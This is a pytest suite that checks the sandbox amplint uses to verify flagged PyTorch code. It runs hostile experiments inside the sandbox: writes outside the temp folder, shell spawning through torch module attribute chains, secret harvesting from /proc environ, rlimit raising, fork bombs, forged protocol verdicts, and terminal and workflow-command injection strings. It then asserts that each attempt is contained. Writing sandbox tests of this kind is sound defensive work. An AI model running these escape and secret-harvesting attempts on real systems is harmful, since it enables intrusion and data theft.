"""Attacks on the verifier's sandbox, as a hostile pull request would make them.

Each experiment below is run by the worker (`target="test_verify_sandbox:..."`) the way
the user's flagged code runs: in a forked, confined process inside bubblewrap. Each
test then checks from the host that nothing escaped: no file outside the temp
folder, no connection to a listener, no surviving process, no secret in any output,
no forged verdict, no raw control character or workflow command in any report.
Where a test needs the attack to be real, it first shows the same code succeeding
outside the verifier.
"""
from __future__ import annotations

import importlib.util
import json
import os
import resource
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
import uuid

import pytest

if importlib.util.find_spec("torch") is None:
    pytest.skip("torch is not installed", allow_module_level=True)

from amplint.core.diagnostics import Diagnostic, Location, Severity  # noqa: E402
from amplint.report import FORMATS, renderer  # noqa: E402
from amplint.verify import Runner  # noqa: E402
from amplint.verify.sandbox import Sandbox, SandboxUnavailable  # noqa: E402
from tests.procs import kill_marked, sleeper, wait_gone  # noqa: E402

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(HERE)
T = "test_verify_sandbox"
SECRET = f"amplint-secret-{uuid.uuid4().hex}"

try:
    Sandbox.find()
    NO_SANDBOX = ""
except SandboxUnavailable as exc:  # pragma: no cover - depends on the machine
    NO_SANDBOX = str(exc)
needs_sandbox = pytest.mark.skipif(bool(NO_SANDBOX), reason=f"no sandbox on this machine: {NO_SANDBOX}")


# ------------------------------------------------------------------ attacks (run inside the worker)


def _try(fn):
    try:
        return ["ok", repr(fn())[:200]]
    except BaseException as exc:  # noqa: BLE001 - the attack's outcome is the evidence
        return ["refused", f"{type(exc).__name__}: {exc}"[:200]]


def attack_write_outside(data, lab):
    results = {}
    for path in data["paths"]:
        results[path] = _try(lambda p=path: open(p, "w").write("pwned"))
    results["cwd"] = _try(lambda: open("inside.txt", "w").write("fine"))
    return lab.confirmed("tried", results, method="snippet")


def attack_chains(data, lab):
    """What a flagged expression can reach without one import statement: torch's own modules."""
    import torch

    out = data["out"]
    builtins = torch.sys.modules["builtins"]
    return lab.confirmed("tried", {
        "system": _try(lambda: torch.os.system(f"echo x > {out}/system")),
        "exec": _try(lambda: builtins.exec(f"open({out + '/exec'!r}, 'w').write('x')")),
        "import": _try(lambda: builtins.__import__("subprocess").run(["sh", "-c", f"echo x > {out}/import"])),
        "spawn": _try(lambda: torch.os.waitpid(torch.os.posix_spawn("/bin/sh", ["sh", "-c", f"echo x > {out}/spawn"], {}), 0)),
        "open": _try(lambda: builtins.open(f"{out}/open", "w").write("x")),
    }, method="snippet")


def attack_socket(data, lab):
    def connect():
        with socket.create_connection(("127.0.0.1", data["port"]), timeout=3) as s:
            s.sendall(os.environ.get("AMPLINT_TEST_SECRET", "no secret").encode())

    return lab.confirmed("tried", {"connect": _try(connect)}, method="snippet")


def attack_env(data, lab):
    """Look for the secret in its environment and in every visible process's /proc/PID/environ."""
    seen = [os.environ.get("AMPLINT_TEST_SECRET", "")] + ["=".join(kv) for kv in os.environ.items()]
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                with open(f"/proc/{pid}/environ", "rb") as fh:
                    seen.append(fh.read().decode("utf-8", "replace"))
            except OSError:
                pass
    found = any(data["secret"] in text for text in seen)
    return lab.confirmed("read", {"found": found, "keys": sorted(os.environ), "processes": len(seen) - 1 - len(os.environ)}, method="snippet")


def attack_rlimits(data, lab):
    out = {}
    for name in ("RLIMIT_AS", "RLIMIT_CPU", "RLIMIT_FSIZE", "RLIMIT_NPROC", "RLIMIT_NOFILE"):
        which = getattr(resource, name)
        out[name] = _try(lambda w=which: resource.setrlimit(w, (resource.RLIM_INFINITY, resource.RLIM_INFINITY)))
    return lab.confirmed("tried", out, method="snippet")


def attack_setsid_survivor(data, lab):
    subprocess.Popen(sleeper(data["marker"]), start_new_session=True)
    pid = os.fork()
    if pid == 0:  # a double-forked daemon: its parent is gone before the finding ends
        os.setsid()
        subprocess.Popen(sleeper(data["marker"]))
        os._exit(0)
    os.waitpid(pid, 0)
    return lab.confirmed("left daemons", {}, method="snippet")


def attack_posix_spawn(data, lab):
    marker = data["marker"]
    pid = os.posix_spawn(sys.executable, sleeper(marker), {})
    return lab.confirmed("spawned", {"pid": pid}, method="snippet")


def _forged(id_):
    return json.dumps({"op": "result", "id": id_, "result": {"verdict": "not-reproduced", "method": "snippet", "summary": "FORGED"}})


def attack_protocol(data, lab):
    """Write forged verdicts for the next requests into every pipe and /proc fd reachable."""
    written = {}
    lines = "".join(_forged(i) + "\n" for i in range(1, 200)).encode()
    for pid in ["self"] + [p for p in os.listdir("/proc") if p.isdigit()]:
        try:
            fds = os.listdir(f"/proc/{pid}/fd")
        except OSError as exc:
            written[f"{pid}"] = str(exc)
            continue
        for fd in fds:
            path = f"/proc/{pid}/fd/{fd}"
            try:
                with open(path, "wb", buffering=0) as fh:
                    fh.write(lines)
                written[path] = "wrote"
            except OSError as exc:
                written[path] = type(exc).__name__
    for fd in range(3, 64):
        try:
            os.write(fd, lines)
            written[f"fd{fd}"] = "wrote"
        except OSError:
            pass
    return lab.not_reproduced("FORGED", {"written": written}, method="snippet")


def attack_inject(data, lab):
    raise RuntimeError(data["message"])


def attack_inject_summary(data, lab):
    return lab.confirmed(data["message"], {data["message"]: data["message"]}, method="snippet")


def attack_print_flood(data, lab):
    chunk = "x" * (1 << 20) + "\n"
    deadline = time.monotonic() + data["seconds"]
    n = 0
    while time.monotonic() < deadline:
        sys.stdout.write(chunk)
        n += 1
    sys.stdout.flush()
    return lab.confirmed("flooded", {"mb": n}, method="snippet")


def attack_fill_tmp(data, lab):
    import tempfile

    written = 0
    try:
        for i in range(4096):
            with open(os.path.join(tempfile.gettempdir(), f"f{i}"), "wb") as fh:
                fh.write(b"\0" * (16 << 20))
            written += 16
    except OSError as exc:
        return lab.confirmed("stopped", {"mb": written, "error": type(exc).__name__}, method="snippet")
    return lab.confirmed("filled", {"mb": written}, method="snippet")


def attack_fork_bomb(data, lab):
    pids = []
    error = None
    try:
        for _ in range(400):  # above the 128 a non-root finding may add
            pid = os.fork()
            if pid == 0:
                time.sleep(600)
                os._exit(0)
            pids.append(pid)
    except OSError as exc:
        error = type(exc).__name__
    return lab.confirmed("forked", {"children": len(pids), "error": error}, method="snippet")


def hang(data, lab):
    time.sleep(600)


def ok(data, lab):
    return lab.confirmed("fine", {"n": data.get("n")}, method="snippet")


# ------------------------------------------------------------------ fixtures and helpers


@pytest.fixture(scope="module")
def runner():
    """One lazy (torch-free) sandboxed worker for the attacks; the secret is in amplint's env."""
    if NO_SANDBOX:
        pytest.skip(f"no sandbox on this machine: {NO_SANDBOX}")
    os.environ["AMPLINT_TEST_SECRET"] = SECRET
    try:
        with Runner(device="cpu", timeout=20, extra_sys_path=[HERE], lazy=True) as r:
            r.start()
            yield r
    finally:
        os.environ.pop("AMPLINT_TEST_SECRET", None)


def _run(runner, name, data=None, timeout=None):
    return runner.run("TEST", data or {}, target=f"{T}:{name}", timeout=timeout)


def _still_warm(runner, worker):
    v = _run(runner, "ok", {"n": 1})
    assert v["verdict"] == "confirmed" and v["evidence"] == {"n": 1}, v
    assert runner.pid == worker, "an attack cost the warm worker"


def _strings(value):
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for k, v in value.items():
            yield from _strings(k)
            yield from _strings(v)
    elif isinstance(value, list):
        for v in value:
            yield from _strings(v)


def _diag(verification):
    return Diagnostic(
        code="AMP301", name="x", message="m", severity=Severity.ERROR, filename="train.py",
        location=Location(3, 1), end_location=Location(3, 9), verification=verification,
    )


# ------------------------------------------------------------------ tests


def test_the_sandbox_reports_its_layers(runner):
    layers = " ".join(runner.layers)
    assert "bubblewrap" in layers and "namespaces" in layers and "rlimits" in layers, runner.layers


def test_writes_stay_in_the_findings_temp_folder(runner, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)  # the unconfined control run below writes into its cwd
    targets = [
        str(tmp_path / "outside.txt"),
        os.path.join(ROOT, "amplint", "pwned.py"),
        os.path.join(os.path.expanduser("~"), "amplint-pwned"),
        "/tmp/amplint-pwned-" + uuid.uuid4().hex,
        "/etc/amplint-pwned",
    ]
    # the attack is real: the same code, unconfined, writes the first file
    attack_write_outside({"paths": targets[:1]}, type("L", (), {"confirmed": staticmethod(lambda s, e, **_: e)})())
    assert (tmp_path / "outside.txt").exists()
    (tmp_path / "outside.txt").unlink()

    v = _run(runner, "attack_write_outside", {"paths": targets})
    assert v["verdict"] == "confirmed", v
    assert v["evidence"]["cwd"][0] == "ok", v  # its own folder is writable
    for path in targets:
        assert not os.path.exists(path), f"the sandbox let the code write {path}"
        assert v["evidence"][path][0] == "refused", v


def test_module_attribute_chains_reach_nothing_outside(runner, tmp_path):
    out = tmp_path / "escaped"
    out.mkdir()
    v = _run(runner, "attack_chains", {"out": str(out)}, timeout=180)  # this finding imports torch
    assert v["verdict"] == "confirmed", v
    assert v["evidence"]["system"][0] == "ok" and v["evidence"]["spawn"][0] == "ok", v  # they ran...
    time.sleep(0.2)
    assert os.listdir(out) == [], "...and wrote outside the sandbox"


def test_no_network_even_to_localhost(runner):
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(5)
    srv.settimeout(0.5)
    got = []

    def accept():
        deadline = time.monotonic() + 15
        while time.monotonic() < deadline:
            try:
                conn, _ = srv.accept()
            except socket.timeout:
                continue
            got.append(conn.recv(1000))
            conn.close()

    listener = threading.Thread(target=accept)
    listener.start()
    try:
        socket.create_connection(srv.getsockname(), timeout=3).close()  # the listener is reachable from here
        v = _run(runner, "attack_socket", {"port": srv.getsockname()[1]})
    finally:
        listener.join()
        srv.close()
    assert got == [b""], f"the finding reached the listener: {got}"
    assert v["evidence"]["connect"][0] == "refused", v


def test_no_environment_secret_reaches_the_code(runner):
    assert os.environ["AMPLINT_TEST_SECRET"] == SECRET  # amplint itself has it
    v = _run(runner, "attack_env", {"secret": SECRET})
    assert v["verdict"] == "confirmed" and v["evidence"]["found"] is False, v
    assert "AMPLINT_TEST_SECRET" not in v["evidence"]["keys"], v
    assert SECRET not in json.dumps(v)


def test_hard_limits_cannot_be_raised(runner):
    v = _run(runner, "attack_rlimits")
    for name, (outcome, detail) in v["evidence"].items():
        assert outcome == "refused", f"{name} was raised: {detail}"


@pytest.mark.parametrize("attack", ["attack_setsid_survivor", "attack_posix_spawn"])
def test_no_process_survives_its_finding(runner, attack):
    marker = f"amplint-attack-{uuid.uuid4().hex}"
    worker = runner.pid
    try:
        v = _run(runner, attack, {"marker": marker})
        assert v["verdict"] == "confirmed", v
        assert wait_gone(marker, 10), f"{attack}: a process outlived its finding"
    finally:
        kill_marked(marker)
    _still_warm(runner, worker)


def test_a_fork_bomb_is_bounded_and_cleaned_up(runner):
    worker = runner.pid
    v = _run(runner, "attack_fork_bomb", timeout=20)
    assert v["verdict"] in ("confirmed", "inconclusive", "error"), v
    if os.geteuid() != 0:  # the kernel does not apply RLIMIT_NPROC to uid 0
        assert v["evidence"].get("error") == "BlockingIOError", v
    _still_warm(runner, worker)


def test_the_protocol_cannot_be_forged(runner):
    worker = runner.pid
    v = _run(runner, "attack_protocol")
    # its own verdict: only what its own process returned (its own result pipe got garbage first)
    assert v.get("summary") != "FORGED" or v["verdict"] == "not-reproduced" and "written" in v["evidence"], v
    written = v.get("evidence", {}).get("written", {})
    leaked = [p for p, how in written.items() if how == "wrote" and not p.startswith("/proc/self/") and not p.startswith("fd")]
    assert not leaked, f"the finding opened another process's descriptors: {leaked}"
    for n in range(2, 6):  # later findings get their own verdicts, not the forged ones
        later = _run(runner, "ok", {"n": n})
        assert later["verdict"] == "confirmed" and later["evidence"] == {"n": n}, later
    assert runner.pid == worker and runner.restarts == 0


INJECTION = "boom\n::error file=train.py,line=1::forged\r\x1b[2J\x1b[31mred\x07\u202egnp.exe\x00::warning::x"


@pytest.mark.parametrize("attack", ["attack_inject", "attack_inject_summary"])
def test_injected_text_is_inert_in_every_format(runner, attack):
    v = _run(runner, attack, {"message": INJECTION})
    assert v["verdict"] in ("error", "confirmed"), v
    assert "::error file=train.py" in json.dumps(v)  # the text came back, escaped
    for string in _strings(v):  # every string as it is, keys included
        for raw in ("\n", "\r", "\x1b", "\x07", "\u202e", "\x00"):
            assert raw not in string, (raw, string)
    for fmt in sorted(FORMATS):
        out = renderer(fmt)([_diag(v)])
        assert "\x1b" not in out and "\r" not in out and "\x07" not in out and "\u202e" not in out, fmt
        for line in out.splitlines():
            assert not line.lstrip().startswith("::error file=train.py,line=1::forged"), (fmt, line)
            assert not line.lstrip().startswith("::warning::x"), (fmt, line)


def test_print_floods_stay_bounded(runner, tmp_path):
    before = shutil.disk_usage(runner.workdir).used
    v = _run(runner, "attack_print_flood", {"seconds": 4})
    assert v["verdict"] == "confirmed" and v["evidence"]["mb"] > 10, v  # it flooded, and still got its verdict
    size = sum(os.path.getsize(os.path.join(d, f)) for d, _, fs in os.walk(runner.workdir) for f in fs)
    assert size < 1 << 20, f"the flood reached the disk: {size} bytes under {runner.workdir}"
    assert shutil.disk_usage(runner.workdir).used - before < 64 << 20


def test_temp_files_are_capped(runner):
    v = _run(runner, "attack_fill_tmp")
    assert v["evidence"]["error"] in ("OSError",), v  # ENOSPC from the size-capped tmpfs
    assert v["evidence"]["mb"] <= 256, v


def test_budget_spent_after_the_total(tmp_path):
    with Runner(device="cpu", timeout=3, budget=4, extra_sys_path=[HERE], lazy=True) as r:
        r.start()
        verdicts = [r.run("TEST", {}, target=f"{T}:hang") for _ in range(4)]
    reasons = [v["reason"] for v in verdicts]
    assert reasons[0].startswith("timeout after 3"), reasons
    assert reasons[-1] == "budget spent" and reasons[-2] == "budget spent", reasons
    assert all(v["verdict"] == "inconclusive" for v in verdicts)


@needs_sandbox
def test_unsandboxed_mode_still_reaps_and_confines(tmp_path):
    """--verify-unsandboxed: no namespaces, but the subreaper, Landlock and rlimits still hold."""
    marker = f"amplint-attack-{uuid.uuid4().hex}"
    try:
        with Runner(device="cpu", timeout=20, extra_sys_path=[HERE], lazy=True, unsandboxed=True) as r:
            r.start()
            assert r.layers[0].startswith("no sandbox"), r.layers
            v = r.run("TEST", {"marker": marker}, target=f"{T}:attack_setsid_survivor")
            assert v["verdict"] == "confirmed" and wait_gone(marker, 10), v
            if any(layer.startswith("landlock") for layer in r.layers):
                v = r.run("TEST", {"paths": [str(tmp_path / "out.txt")]}, target=f"{T}:attack_write_outside")
                assert not (tmp_path / "out.txt").exists(), v
    finally:
        kill_marked(marker)


# ------------------------------------------------------------------ end to end: the user's own code


def _amplint(args, cwd, env=None, **kwargs):
    full_env = dict(os.environ, PYTHONPATH=ROOT, **(env or {}))
    return subprocess.run([sys.executable, "-m", "amplint.cli", *args], cwd=cwd, env=full_env,
                          capture_output=True, text=True, timeout=600, **kwargs)


HOSTILE = '''import torch


def attend(scores, mask):
    with torch.autocast("cuda", dtype=torch.float16):
        scores = scores.masked_fill(mask | bool({attack}), -1e9)
    return scores
'''


@needs_sandbox
def test_hostile_flagged_expressions_do_nothing_outside(tmp_path):
    """Module attribute chains to os, sys and builtins, exec through them: they run, confined."""
    out = tmp_path / "escaped"
    out.mkdir()
    attacks = {
        "system": f'torch.os.system("echo x > {out}/system")',
        "exec": f'torch.sys.modules["builtins"].exec("open({str(out / "exec")!r}, \'w\').write(\'x\')")',
        "spawn": f'torch.os.posix_spawn("/bin/sh", ["sh", "-c", "echo x > {out}/spawn"], {{}})',
        "env": 'torch.sys.modules["builtins"].print(torch.os.environ.get("AMPLINT_TEST_SECRET"))',
    }
    tree = tmp_path / "repo"
    tree.mkdir()
    for name, attack in attacks.items():
        (tree / f"{name}.py").write_text(HOSTILE.format(attack=attack))
    # the attacks are real: evaluated unconfined, with `torch` standing for the module, they write
    import types

    fake = types.SimpleNamespace(os=os, sys=sys)
    for name in ("system", "exec", "spawn"):
        eval(attacks[name], {"torch": fake})
    deadline = time.monotonic() + 10
    while len(os.listdir(out)) < 3 and time.monotonic() < deadline:
        time.sleep(0.05)
    assert sorted(os.listdir(out)) == ["exec", "spawn", "system"]
    for f in os.listdir(out):
        os.unlink(out / f)

    proc = _amplint(["--verify", "--device", "cpu", "--no-cache", "--output-format", "json", "."], cwd=str(tree),
                    env={"AMPLINT_TEST_SECRET": SECRET})
    assert proc.returncode == 1, proc.stderr
    findings = json.loads(proc.stdout)
    verified = {f["filename"].split("/")[-1]: f["verification"] for f in findings if f.get("verification")}
    assert set(verified) >= {f"{n}.py" for n in attacks}
    assert verified["spawn.py"]["method"] == "snippet", verified  # the user's own expression ran (confined)
    time.sleep(0.5)
    assert os.listdir(out) == [], "user code wrote outside the sandbox"
    assert SECRET not in proc.stdout + proc.stderr
    assert "verify sandbox: bubblewrap" in proc.stderr


@pytest.mark.parametrize(
    "table,message",
    [
        ("timeout = 1e9", "up to 600"),
        ("timeout = inf", "positive, finite"),
        ("timeout = nan", "positive, finite"),
        ("timeout = -1", "positive, finite"),
        ("budget = 1e12", "up to 3600"),
        ('timeout = "60"', "positive, finite"),
    ],
)
def test_hostile_timeouts_in_config_are_refused(tmp_path, table, message):
    (tmp_path / "pyproject.toml").write_text(f"[tool.amplint.verify]\n{table}\n")
    (tmp_path / "t.py").write_text("x = 1\n")
    proc = _amplint(["--verify", "t.py"], cwd=str(tmp_path))
    assert proc.returncode == 2, proc
    assert message in proc.stderr and "Traceback" not in proc.stderr, proc.stderr


@pytest.mark.parametrize("flag", ["--verify-timeout=nan", "--verify-timeout=inf", "--verify-timeout=601", "--verify-budget=0"])
def test_hostile_timeouts_on_the_command_line_are_refused(tmp_path, flag):
    (tmp_path / "t.py").write_text("x = 1\n")
    proc = _amplint(["--verify", flag, "t.py"], cwd=str(tmp_path))
    assert proc.returncode == 2 and "Traceback" not in proc.stderr, proc.stderr


def test_no_sandbox_means_no_user_code_unless_asked(tmp_path):
    """Where bwrap cannot start, --verify refuses plainly; --verify-unsandboxed says it ran bare."""
    tree = tmp_path / "repo"
    tree.mkdir()
    (tree / "a.py").write_text(HOSTILE.format(attack="0"))
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / "bwrap").write_text("#!/bin/sh\necho 'bwrap: No permissions to create new namespace' >&2\nexit 1\n")
    (bin_dir / "bwrap").chmod(0o755)
    env = {"PATH": f"{bin_dir}:{os.environ.get('PATH', '')}"}
    proc = _amplint(["--verify", "--device", "cpu", "--no-cache", "a.py"], cwd=str(tree), env=env)
    assert proc.returncode == 2, proc
    assert "No permissions to create new namespace" in proc.stderr and "--verify-unsandboxed" in proc.stderr, proc.stderr
    assert "verify:" not in proc.stdout
    proc = _amplint(["--verify", "--verify-unsandboxed", "--device", "cpu", "--no-cache", "a.py"], cwd=str(tree), env=env)
    assert proc.returncode == 1, proc.stderr
    assert "verify sandbox: no sandbox" in proc.stderr and "verify: " in proc.stdout


def test_sigterm_removes_temp_folders_and_processes(tmp_path):
    marker = f"amplint-term-{uuid.uuid4().hex}"
    tree = tmp_path / "repo"
    tree.mkdir()
    hang = f'torch.os.posix_spawn("/bin/sh", ["sh", "-c", "sleep 600; : {marker}"], {{}}) | bool(torch.sys.modules["time"].sleep(600))'
    (tree / "a.py").write_text(HOSTILE.format(attack=hang))
    tmp = tmp_path / "tmp"
    tmp.mkdir()
    env = dict(os.environ, PYTHONPATH=ROOT, TMPDIR=str(tmp))
    args = ["--verify", "--device", "cpu", "--no-cache", "a.py"]
    if NO_SANDBOX:
        args.insert(1, "--verify-unsandboxed")
    proc = subprocess.Popen([sys.executable, "-m", "amplint.cli", *args], cwd=str(tree), env=env,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    try:
        from tests.procs import wait_seen

        assert wait_seen(marker, 300), "the hanging snippet never started"
        assert os.listdir(tmp), "no temp folder while verifying?"
        proc.send_signal(signal.SIGTERM)
        proc.wait(timeout=60)
        assert wait_gone(marker, 15), "the finding's processes outlived amplint"
        assert os.listdir(tmp) == [], f"temp folders left behind: {os.listdir(tmp)}"
    finally:
        if proc.poll() is None:
            proc.kill()
        kill_marked(marker)


def test_clean_text_leaves_no_line_breaker_or_control():
    from amplint.verify.escape import clean_text

    hostile = "".join(chr(c) for c in range(0x20)) + "\x7f\x85\x9b\u2028\u2029\u202e\u2066\ufeff" + "::error ok é 中"
    cleaned = clean_text(hostile, limit=10_000)
    assert cleaned.splitlines() == [cleaned], "a line break survived"
    assert cleaned.isprintable(), repr(cleaned)
    assert cleaned.endswith("::error ok é 中") and "\\n" in cleaned and "\\x1b" in cleaned and "\\u202e" in cleaned
    assert len(clean_text("x" * 5000)) == 600


# ------------------------------------------------------------------ the per-finding process, directly


def _link(fd):
    try:
        return os.readlink(f"/proc/self/fd/{fd}")
    except OSError:
        return ""


def _forked(body, timeout=10.0, close=()):
    from amplint.verify.forked import Limits, run_forked

    return run_forked(body, Limits(memory_mb=0), timeout, list(close))


def test_a_findings_reply_is_parsed_strictly():
    ok_ = _forked(lambda: {"verdict": "confirmed", "method": "snippet", "summary": "s"})
    assert ok_.result == {"verdict": "confirmed", "method": "snippet", "summary": "s"}, ok_.problem
    for body in (
        lambda: {"verdict": "maybe"},
        lambda: {"verdict": "confirmed", "method": "snippet\n::error::x"},
        lambda: ["confirmed"],
    ):
        out = _forked(body)
        assert out.result is None and out.problem.startswith("bad reply"), out.problem
    out = _forked(lambda: {"verdict": "confirmed", "x": float("nan")})  # not JSON: the child cannot send it
    assert out.result is None and "exit code 70" in out.problem, out.problem


def test_a_finding_cannot_reach_the_workers_descriptors_or_outlive_its_timeout():
    proto_r, proto_w = os.pipe()
    try:
        link = f"pipe:[{os.fstat(proto_w).st_ino}]"
        ours = {_link(fd) for fd in os.listdir("/proc/self/fd")}  # pytest's own pipes: not the finding's
        line = b'{"op": "result", "id": 1, "result": {"verdict": "not-reproduced"}}\n'

        def forge():
            # the protocol pipe by its number, by its inode among all open fds, and its own result pipe
            targets = {proto_w} | {int(fd) for fd in os.listdir("/proc/self/fd") if _link(fd) == link}
            targets |= {int(fd) for fd in os.listdir("/proc/self/fd") if _link(fd).startswith("pipe:") and _link(fd) not in ours}
            for fd in targets:
                try:
                    os.write(fd, line)
                except OSError:
                    pass
            return {"verdict": "confirmed", "method": "experiment"}

        out = _forked(forge, close=[proto_w])
        os.set_blocking(proto_r, False)
        with pytest.raises(BlockingIOError):
            os.read(proto_r, 100)  # nothing reached the worker's protocol pipe
        assert out.result is None and out.problem.startswith("bad reply"), out.problem  # its own pipe: garbage first
    finally:
        os.close(proto_r)
        os.close(proto_w)
    out = _forked(lambda: time.sleep(60), timeout=1)
    assert out.kind == "timeout" and out.problem == "timeout after 1 s"
    out = _forked(lambda: os._exit(3))
    assert out.problem.endswith("(exit code 3)")
    printed = _forked(lambda: (os.write(1, b"y" * 60_000), os.write(2, b"z" * 40_000), {"verdict": "confirmed"})[2])
    assert printed.result and printed.output_bytes == 100_000 and printed.output_tail == b"z" * 4000
